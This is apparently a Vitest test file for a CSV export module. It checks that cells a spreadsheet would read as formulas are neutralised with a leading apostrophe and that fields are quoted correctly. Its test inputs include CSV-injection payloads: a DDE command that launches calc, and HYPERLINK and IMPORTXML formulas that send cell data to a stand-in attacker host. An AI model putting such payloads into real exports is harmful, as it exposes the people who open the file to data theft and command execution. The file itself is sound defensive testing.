import { describe, expect, it } from 'vitest';
import { csvLine, withoutFormula } from '../../../src/reports/csv.ts';

describe('a cell that a spreadsheet would take for a formula', () => {
  it.each([
    '=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '-cmd', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '\u0000=1+1', '|calc', '%0A=1',
    '＝1+1', '＋1', '－1', '＠SUM(1)', '=HYPERLINK("https://evil.example?x="&A1,"click")', '=IMPORTXML("https://evil.example","//a")', '--1', '-', '=', '+49 30 1234',
  ])('becomes text: %j', (text) => {
    expect(withoutFormula(text)).toBe(`'${text}`);
  });

  it.each(['', 'plain', 'a=b', '1-2', '-12', '-12.5', '12', 'mail@contoso.example', 'in-progress', '2026-03-01', '\'=1', '19:general@thread.tacv2', 'Ünïcode 漢字'])('is not %j', (text) => {
    expect(withoutFormula(text)).toBe(text);
  });
});

describe('a line', () => {
  it.each([
    [['a', 1, true, null, -3], 'a,1,true,,-3\r\n'],
    [['a,b', 'say "x"', 'two\nlines', ' padded ', 'a;b'], '"a,b","say ""x""","two\nlines"," padded ","a;b"\r\n'],
    [['=1,"x"'], '"\'=1,""x"""\r\n'],
    [['nul\u0000=1'], 'nul=1\r\n'],
    [['\u0000=1'], '\'=1\r\n'],
    [[], '\r\n'],
  ] as const)('of %j is %j', (values, line) => {
    expect(csvLine(values)).toBe(line);
  });
});
